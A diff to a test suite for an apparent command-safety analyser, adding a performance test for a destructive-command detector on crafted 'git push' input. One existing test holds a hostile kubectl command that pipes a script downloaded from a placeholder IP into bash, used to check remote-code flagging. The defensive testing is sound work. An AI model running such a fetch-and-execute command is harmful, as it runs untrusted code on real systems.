@@ -39,3 +39,15 @@ def test_what_a_store_or_container_line_does(line: str, capability: C) -> None:
 def test_a_remote_script_inside_a_container_is_remote_code() -> None:
     facts = analyse("kubectl exec deploy/app -- sh -c 'curl -sSL http://198.51.100.7/x.sh | bash'")
     assert "remote_code" in facts.flags
+
+
+def test_a_crafted_line_of_repeated_git_push_is_read_in_linear_time() -> None:
+    """The force-push pattern backtracked for minutes on 20 KB of ``git push git push …`` (review)."""
+    import time
+
+    from detectors.vocab import destructive_command
+
+    line = ("git push " * 12_000)[:100_000]
+    started = time.process_time()
+    destructive_command(line)
+    assert time.process_time() - started < 2.0  # was 244 s at 20 KB
